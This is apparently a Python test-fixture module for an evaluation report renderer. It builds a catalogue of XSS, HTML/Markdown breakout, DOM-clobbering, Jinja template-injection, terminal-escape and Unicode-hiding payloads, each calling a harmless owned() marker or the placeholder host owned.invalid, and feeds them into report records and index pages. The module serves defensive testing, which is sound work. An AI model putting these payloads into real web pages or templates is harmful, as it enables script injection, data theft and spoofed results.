"""Text that does harm on a page that is not careful, by the place where it does, and rounds of it.

Each calls `owned()`, asks for something at owned.invalid, or breaks what stands after it. Those
in no place run nothing anywhere: they hide, reorder or swamp what is read.
"""

from __future__ import annotations

from functools import cache
from typing import Final

from harness.report.index import IndexPage
from harness.report.record import RoundRecord
from harness.types import CheckResult, Generation, Message, Opinion, ToolCall, Verdict
from tests.report import past
from tests.report.factory import make_manifest, make_record, with_account, with_surroundings
from tests.report.rows import Row, make_row

PLACES: Final = {
    "body": "<p>@@</p>",
    "comment": "<!-- @@ -->",
    "cdata": "<svg><![CDATA[@@]]></svg>",
    "style": "<style>p { color: @@ }</style>",
    "textarea": "<textarea>@@</textarea>",
    "title": "<title>@@</title>",
    "noscript": "<noscript>@@</noscript>",
    "template": "<template>@@</template>",
    "double": '<p title="@@">x</p>',
    "single": "<p title='@@'>x</p>",
    "bare": "<p class=@@>x</p>",
    "href": '<a href="@@">x</a>',
    "src": '<img src="@@">',
    "css": '<p style="color: @@">x</p>',
    "string": '<script>const x = "@@";</script>',
    "quote": "<script>const x = '@@';</script>",
    "literal": "<script>const x = `@@`;</script>",
    "line": "<script>// @@\n</script>",
    "block": "<script>/* @@ */</script>",
    "key": '<script>const by = {}; if (by["@@"] !== undefined) owned();</script>',
    "id": '@@<b id="items"></b><script>try { if (document.getElementById("items").localName '
    '!== "b" || items !== document.querySelector("b")) owned(); } catch { owned(); }</script>',
    "markdown": "@@",
    "fence": "```text\n@@\n```",
    "code": "a `@@` b",
    "cell": "| a | b |\n| --- | --- |\n| @@ | c |",
    "summary": "<details><summary>@@</summary>\n\nx\n\n</details>",
    "jinja": "@@",
}
"""How a careless page would put a text there."""
IN_MARKDOWN: Final = ("markdown", "fence", "code", "cell", "summary")
_CALL: Final = "<script>owned()</script>"
_IMAGE: Final = "<img src=x: onerror=owned()>"
_AT: Final = "https://owned.invalid"

_BY_PLACE: Final[dict[str, dict[str, str]]] = {
    "body": {
        "script": _CALL,
        "script from elsewhere": f"<script src={_AT}/x.js></script>",
        "script after a bracket": "<<script>owned()//<</script>",
        "script in a broken attribute": f'<img """>{_CALL}">',
        "script with capitals": "<ScRiPt >owned()</sCrIpT >",
        "module": "<script type=module>owned()</script>",
        "image": _IMAGE,
        "image with slashes": '<img/src="x:"/onerror=owned()>',
        "image by its old name": "<image src=x: onerror=owned()>",
        "image in closed tags": f"</td></table></pre></details></main></body></html>{_IMAGE}",
        "picture": f'<picture><source srcset="{_AT}/s"><img></picture>',
        "svg": "<svg onload=owned()>",
        "svg script": "<svg><script>owned()</script></svg>",
        "svg animate": "<svg><animate onbegin=owned() attributeName=x dur=1s>",
        "svg set": "<svg><set onbegin=owned() attributeName=x to=y>",
        "svg link": '<svg><a xlink:href="javascript:owned()"><text y=20>x</text></a></svg>',
        "svg foreign object": f"<svg><foreignObject>{_IMAGE}</foreignObject></svg>",
        "svg image": f"<svg><image href={_AT}/x.png /></svg>",
        "mathml": f"<math><annotation-xml encoding=text/html>{_CALL}</annotation-xml></math>",
        "mathml handler": "<math><mi onclick=owned()>x</mi></math>",
        "shadow": f"<div><template shadowrootmode=open>{_IMAGE}</template></div>",
        "srcdoc": '<iframe srcdoc="<script>owned()</script>"></iframe>',
        "srcdoc in entities": '<iframe srcdoc="&lt;script&gt;owned()&lt;/script&gt;"></iframe>',
        "frame of a script URL": '<iframe src="javascript:parent.owned()"></iframe>',
        "frame of data": '<iframe src="data:text/html,<script>owned()</script>"></iframe>',
        "object": f"<object data={_AT}/x.html></object>",
        "embed": f"<embed src={_AT}/x.html>",
        "video": "<video src=x: onerror=owned()></video>",
        "audio": "<audio src=x: onerror=owned()></audio>",
        "body": "<body onload=owned()>",
        "details": "<details open ontoggle=owned()>x</details>",
        "focus": "<input autofocus onfocus=owned()>",
        "pointer": "<b onpointerover=owned()>x</b>",
        "popover": "<button popovertarget=o>x</button><b id=o popover onbeforetoggle=owned()>x</b>",
        "scrolling": "<b oncontentvisibilityautostatechange=owned() "
        "style='display: block; content-visibility: auto'>x</b>",
        "animation": "<style>@keyframes x{}</style><b style='animation:x 1s' "
        "onanimationstart=owned()>x</b>",
        "style sheet": f"<link rel=stylesheet href={_AT}/x.css>",
        "preload": f"<link rel=preload as=image href={_AT}/p.png>",
        "refresh": f"<meta http-equiv=refresh content='0;url={_AT}/'>",
        "base": f"<base href={_AT}/><img src=x>",
        "form": "<form action='javascript:owned()'><button>x</button></form>",
        "form of a button": "<form><button formaction='javascript:owned()'>x</button></form>",
        "link": "<a href='javascript:owned()'>x</a>",
        "link in entities": "<a href='java&#x09;script&colon;owned()'>x</a>",
        "ping": f"<a href='#x' ping={_AT}/ping>x</a>",
        "open comment": "<!-- x",
        "open plain text": "<plaintext>",
        "open style": "<style>",
        "open title": "<svg><title><b><plaintext>",
        "open select": "<textarea>",
    },
    "comment": {"end of a comment": f"--!>{_IMAGE}", "nested comment": f"--><!-- -->{_IMAGE}"},
    "cdata": {"end of cdata": f"]]>{_CALL}"},
    "style": {
        "end of style": f"</style>{_CALL}",
        "rule": f"x }} body {{ background: url({_AT}/rule)",
        "import": f"x }} </style><style> @import url({_AT}/import.css); p {{ color: red",
    },
    "css": {
        "declaration": f"red; background: url({_AT}/declaration)",
        "declaration in escapes": f"red; background: \\75rl({_AT}/escaped)",
    },
    "textarea": {"end of textarea": f"</textarea>{_CALL}"},
    "title": {"end of title": f"</title>{_CALL}"},
    "noscript": {"end of noscript": f"</noscript>{_CALL}"},
    "template": {"end of template": f"</template>{_CALL}"},
    "double": {
        "end of an attribute": f'">{_CALL}',
        "attribute": '" onmouseover="owned()',
        "style attribute": f'" style="background: url({_AT}/style)',
    },
    "single": {
        "end of a quoted attribute": f"'>{_IMAGE}",
        "quoted attribute": "' tabindex='0' onfocus='owned()",
    },
    "bare": {"attribute without quotes": "x onclick=owned()"},
    "href": {
        "script URL": "javascript:owned()",
        "script URL with capitals": "JaVaScRiPt:owned()",
        "script URL with a tab": "java\tscript:owned()",
        "script URL with a line feed": "java\nscript:owned()",
        "script URL after a control": "\x01javascript:owned()",
        "script URL after a comment": "javascript://x%0aowned()",
        "data URL": "data:text/html,<script>owned()</script>",
        "address": f"{_AT}/address",
        "address without a scheme": "//owned.invalid/x",
    },
    "src": {"address of an image": f"{_AT}/image.png"},
    "string": {
        "end of a script": f"</script>{_CALL}",
        "end of a script with a space": f"</script x>{_CALL}",
        "end of a script with capitals": f"</SCRIPT/>{_CALL}",
        "script in a comment": "<!--<script>",
        "end of a string": '";owned();//',
    },
    "quote": {"end of a quoted string": "';owned();//", "sum": "'+owned()+'"},
    "literal": {"substitution": "${owned()}", "end of a literal": "`;owned();//"},
    "line": {
        "line separator": "x\u2028owned()//",
        "paragraph separator": "x\u2029owned()//",
        "line feed": "x\nowned()//",
        "carriage return": "x\rowned()//",
    },
    "block": {"end of a block comment": "*/owned();/*"},
    "key": {
        "prototype": "__proto__",
        "constructor": "constructor",
        "toString": "toString",
        "hasOwnProperty": "hasOwnProperty",
        "valueOf": "valueOf",
    },
    "id": {
        "same id": "<a id=items></a>",
        "form with names": "<form id=items><input name=parentNode><input name=id></form>",
        "name of a method": "<img name=getElementById>",
        "collection": "<a id=items></a><a id=items name=length></a>",
    },
    "markdown": {
        "Markdown link": "[x](javascript:owned())",
        "Markdown link in entities": "[x](&#106;avascript&colon;owned())",
        "Markdown link in angles": f"[x](<{_AT}/angles> 'title')",
        "Markdown image": f"![x]({_AT}/markdown.png)",
        "Markdown autolink": "<javascript:owned()>",
        "Markdown reference": "[x]\n\n[x]: javascript:owned()",
        "Markdown image reference": f"![x][r]\n\n[r]: {_AT}/reference.png",
        "HTML in Markdown": f"x\n\n<div>\n{_IMAGE}\n</div>",
        "HTML in a list": f"- x\n\n  {_CALL}",
        "HTML in emphasis": f"**x {_IMAGE}**",
        "instruction": "<?php ?>" + _IMAGE,
        "comment in Markdown": "x\n\n<!--",
    },
    "fence": {
        "end of a fence": f"```\n{_CALL}",
        "end of a fence, longer": f"``````\n{_CALL}\n``````",
        "end of a fence, indented": f"   ```\n\n{_IMAGE}",
    },
    "code": {"end of code": f"x`{_IMAGE}`", "end of code, escaped": f"\\`{_IMAGE}"},
    "cell": {
        "end of a table": f"x |\n\n{_CALL}\n\n|",
        "code in a cell": f"` | {_IMAGE} `",
    },
    "summary": {
        "end of a summary": f"</summary></details>{_IMAGE}<details><summary>",
        "details after a summary": "</summary></details><details open ontoggle=owned()><summary>",
    },
    "jinja": {
        "expression": "{{ 7 * 7 }}",
        "statement": "{% for each in 'abc' %}owned{% endfor %}",
        "template comment": "a{# gone #}b",
        "globals": "{{ cycler.__init__.__globals__ }}",
        "line statement": "{%- raw %}owned{%- endraw %}",
    },
}
_HIDING: Final = {
    "Angular": "{{ constructor.constructor('owned()')() }}",
    "terminal": "\x1b[2J\x1b[31mPass\x1b[0m\x1b]0;owned\x07",
    "terminal link": "\x1b]8;;https://owned.invalid/t\x07x\x1b]8;;\x07",
    "one-byte terminal": "\x9b31mPass\x9d0;owned\x9c",
    "bidi": "score \u202e5 fo 1\u202c \u2066isolated\u2069 \u200fright",
    "zero width": "ze\u200bro\u200d wi\u2060dth\u00ad\ufeff",
    "tag characters": "x\U000e0073\U000e0063y",
    "NUL": "<scr\x00ipt>owned()</scr\x00ipt>",
    "backspace": "Pass\x08\x08\x08\x08Fail",
    "overlong": "\xc0\xbcscript\xc0\xbeowned()\xc0\xbc/script\xc0\xbe",
    "UTF-7": "+ADw-script+AD4-owned()+ADw-/script+AD4-",
    "full width": "\uff1cscript\uff1eowned()\uff1c/script\uff1e",
    "private use": "\ue000\uf8ff",
    "combining": "P" + "\u0300\u0489" * 60,
    "rich": "[bold red]Pass[/bold red] [/] [link=https://owned.invalid]x[/link] :warning:",
    "mention": "@octocat #1 https://owned.invalid/m www.owned.invalid GH-1 a@owned.invalid",
    "heading": "Pass\n====\n\n# Pass\n## ✅ Pass",
    "spaces": "a\t b  c \n d ",
    "entities": "&lt;b&gt; &amp;lt; &#60;script&#62; &nbsp;&NewLine;",
    "expression of old": "x: expression(owned()); -moz-binding: url(x); behavior: url(x)",
    "old script": "vbscript:owned()",
    "percent": "%3Cscript%3Eowned()%3C/script%3E",
    "escapes": "\\x3cscript\\x3e \\u003cscript\\u003e \\",
    "deep": "<b>" * 400,
    "brackets": "[" * 400 + "](" * 100,
    "stars": "*_" * 400,
    "long": "x" * 20_000,
    "many words": "word " * 2_000,
}
TEXTS: Final[dict[str, str]] = {
    name: text for named in (*_BY_PLACE.values(), _HIDING) for name, text in named.items()
}
"""Every payload by its name."""


def careless() -> dict[str, tuple[str, str]]:
    """Name → place and what a careless page makes of the payload there."""
    return {
        name: (place, PLACES[place].replace("@@", text))
        for place, named in _BY_PLACE.items()
        for name, text in named.items()
    }


@cache
def record() -> RoundRecord:
    """A round with an item and a slice for every payload, and all of them as names."""
    rows = [_row(name, text) for name, text in TEXTS.items()]
    whole = " ".join(TEXTS.values())[:3000]
    found = with_account(with_surroundings(make_record(rows), whole), whole)
    short = [text[:200] for text in TEXTS.values()]
    named = {"packages": {text: text for text in short}, "files": {text: text for text in short}}
    manifest = make_manifest().model_copy(update={**named, "seeds": dict.fromkeys(short, 1)})
    texts = {row.item.id: row.item.reference or "" for row in rows}
    told = {
        "manifest": manifest,
        "counts": dict.fromkeys(short, 1),
        "packages": named["packages"],
        "generations": tuple(_talked(each, texts[each.item_id]) for each in found.generations),
        "verdicts": tuple(_argued(each, texts[each.item_id]) for each in found.verdicts),
    }
    return found.model_copy(update=told)


def _row(name: str, text: str) -> Row:
    row = make_row(
        text,
        text,
        text,
        {"candidate": text, "baseline": f"{text}\nand more", "base": text},
        {"candidate": 1, "baseline": 5, "base": None},
        {"candidate": "ok", "baseline": "ok", "base": "truncated"},
        dict.fromkeys(("candidate", "baseline", "base"), text),
    )
    call = ToolCall(name=text, arguments={text: text})
    thought = Message(role="assistant", content=text, name=text, reasoning=text, tool_calls=(call,))
    told = {
        "id": text[:200] + name,
        "tags": {"type": text, text: text},
        "rubric": text,
        "cluster": text,
        "references": (text,),
        "follow_ups": (text,),
        "messages": (thought, *row.item.messages),
    }
    item = row.item.model_copy(update=told)
    return Row(item, row.texts, row.scores, row.states, row.reasons)


def _talked(generation: Generation, text: str) -> Generation:
    return generation.model_copy(update={"earlier": (text,), "model": text})


def _argued(verdict: Verdict, text: str) -> Verdict:
    """It has checks, and opinions of two judges."""
    checks = CheckResult(kind=text, state="failed", note=text)
    opinion = Opinion(judge=text, state="scored", score=2, reason=text)
    other = opinion.model_copy(update={"repeat": 1})
    return verdict.model_copy(update={"checks": (checks,), "opinions": (opinion, other)})


def index() -> IndexPage:
    """All rounds, every payload in every place for text of one of them."""
    pages = [past.make_page(1, text=text) for text in TEXTS.values()]
    return IndexPage(
        rounds=tuple(each for page in pages for each in page.rounds),
        charts=tuple(each for page in pages for each in page.charts),
        aliases=tuple(each for page in pages for each in page.aliases),
        problems=tuple(TEXTS.values()),
    )
